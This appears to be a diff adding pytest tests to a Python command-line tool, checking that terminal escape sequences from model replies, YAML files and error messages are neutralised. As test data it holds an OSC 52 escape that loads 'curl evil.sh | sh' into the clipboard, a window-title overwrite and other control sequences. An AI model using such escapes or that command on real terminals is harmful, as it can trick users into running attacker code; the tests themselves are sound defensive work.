@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -89,3 +90,96 @@ def test_db_upgrade_on_postgres_then_status(botarmy_home: Path, pg_url: str) -> 
     engine.dispose()
     status = botarmy("status", home=botarmy_home, env={"BOTARMY_DATABASE_URL": pg_url})
     assert "✔ database" in status.stdout and "(schema 0001)" in status.stdout
+
+
+# -- terminal escapes from models, YAML files and errors (#7 item 11) ---------------------
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"  # OSC 52: put "curl evil.sh | sh" there
+TITLE = "\x1b]0;pwned\x1b\\"  # OSC 0, ST-terminated: the window title
+HOSTILE_TASK = f"{CLIPBOARD}{TITLE}\x1b[2J\x9b31mPlan the wiki"
+FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\r", "\x00")
+
+
+def _assert_terminal_safe(text: str) -> None:
+    found = [c for c in FORBIDDEN if c in text]
+    assert not found, f"{found!r} reached the terminal"
+
+
+@pytest.mark.parametrize(
+    "raw, shown",
+    [
+        (CLIPBOARD + "ok", "ok"),
+        (TITLE + "ok", "ok"),
+        ("\x1b]0;unterminated title", "␛]0;unterminated title"),
+        ("\x1bP1$qm\x1b\\dcs", "dcs"),  # DCS … ST
+        ("\x1b[31mred\x1b[0m \x1b[2J\x1b[H", "red "),  # CSI: colour, clear, home
+        ("\x9d0;c1 title\x9cx\x9b2Jy", "xy"),  # 8-bit C1 forms
+        ("\x1bcreset", "reset"),  # RIS
+        ("a\r\nb\rc\x00d\x7f\x08", "a\nb␍c␀d␡␈"),
+        ("\x85next line", "\\x85next line"),
+        ("tabs\tand\nnewlines stay ✔ → “quotes” 🙂", "tabs\tand\nnewlines stay ✔ → “quotes” 🙂"),
+    ],
+)
+def test_terminal_safe_neutralises_control_sequences(raw: str, shown: str) -> None:
+    from botarmy_nb.render import terminal_safe
+
+    assert terminal_safe(raw) == shown
+    assert terminal_safe(shown) == shown  # idempotent
+    _assert_terminal_safe(shown)
+
+
+def test_cli_runner_output_has_no_escapes_from_the_model(botarmy_home: Path) -> None:
+    from click.testing import CliRunner
+
+    import botarmy_nb as ba
+    from botarmy_nb.cli import main
+
+    result = CliRunner().invoke(main, ["run", HOSTILE_TASK, "--team", "writers-room"])
+    assert result.exit_code == 0, result.output
+    _assert_terminal_safe(result.output)
+    assert "Plan the wiki" in result.output and "botarmy run" in result.output
+    # the model really answered with the payload (stored as it was), and the terminal
+    # got the neutralised text
+    run = ba.get_run(str(ba.runs()["id"].iloc[0]))
+    replies = run.messages.query("agent != 'user'")["content"]
+    assert any(CLIPBOARD in text and TITLE in text for text in replies)
+    assert re.search(r"^## \w+ 1: Plan the wiki$", result.output, re.M)
+
+
+def test_piped_run_output_has_no_escapes(botarmy_home: Path) -> None:
+    result = botarmy("run", HOSTILE_TASK, "--team", "writers-room", home=botarmy_home)
+    assert result.returncode == 0, result.stderr
+    _assert_terminal_safe(result.stdout + result.stderr)
+    assert re.search(r"^## \w+ 1: Plan the wiki$", result.stdout, re.M)
+    assert "botarmy run writers-room · completed" in result.stdout
+
+
+def test_error_messages_have_no_escapes(botarmy_home: Path, tmp_path: Path) -> None:
+    team = tmp_path / "team.yaml"
+    team.write_text(f"name: t\nagents:\n  - name: a\n    {TITLE}role: x\n")
+    for args in (["run", "x", "--team", str(team)], ["run", "x", "--team", TITLE]):
+        result = botarmy(*args, home=botarmy_home)
+        assert result.returncode != 0 and "Traceback" not in result.stderr
+        assert result.stderr.startswith("Error: ")
+        _assert_terminal_safe(result.stdout + result.stderr)
+
+
+def test_a_reader_that_goes_away_ends_the_command(botarmy_home: Path) -> None:
+    """``botarmy-nb run … | head -1``: no hang, no traceback, and the run is not left open."""
+    exe = shutil.which("botarmy-nb", path=str(Path(sys.executable).parent)) or "botarmy-nb"
+    env = {k: v for k, v in os.environ.items() if not k.startswith("BOTARMY_")}
+    env["BOTARMY_HOME"] = str(botarmy_home)
+    proc = subprocess.Popen(
+        [exe, "run", "Plan the wiki", "--team", "writers-room"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env=env,
+    )
+    assert proc.stdout is not None and proc.stderr is not None
+    assert proc.stdout.readline() == b"[running]\n"
+    proc.stdout.close()  # what head does after its line
+    assert proc.wait(timeout=60) == 1
+    assert b"Traceback" not in proc.stderr.read()
+    import botarmy_nb as ba
+
+    assert ba.runs()["status"].iloc[0] in ("completed", "cancelled")
